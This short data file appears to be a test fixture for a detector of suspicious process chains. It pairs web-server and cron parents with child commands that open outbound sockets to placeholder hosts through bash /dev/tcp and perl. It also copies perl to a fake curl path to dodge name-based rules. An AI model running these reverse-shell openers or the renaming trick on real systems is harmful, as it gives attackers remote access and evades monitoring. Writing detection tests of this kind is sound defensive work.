# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/sbin/nginx /usr/sbin/php-fpm8.2 /usr/sbin/cron
chain /usr/sbin/nginx :: bash -c 'exec 3<>/dev/tcp/198.51.100.7/4444' || true
chain /usr/sbin/php-fpm8.2 :: perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(443, inet_aton("203.0.113.7")))'
cp /usr/bin/perl /usr/local/bin/curl
chain /usr/sbin/nginx :: /usr/local/bin/curl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(80, inet_aton("203.0.113.7")))'
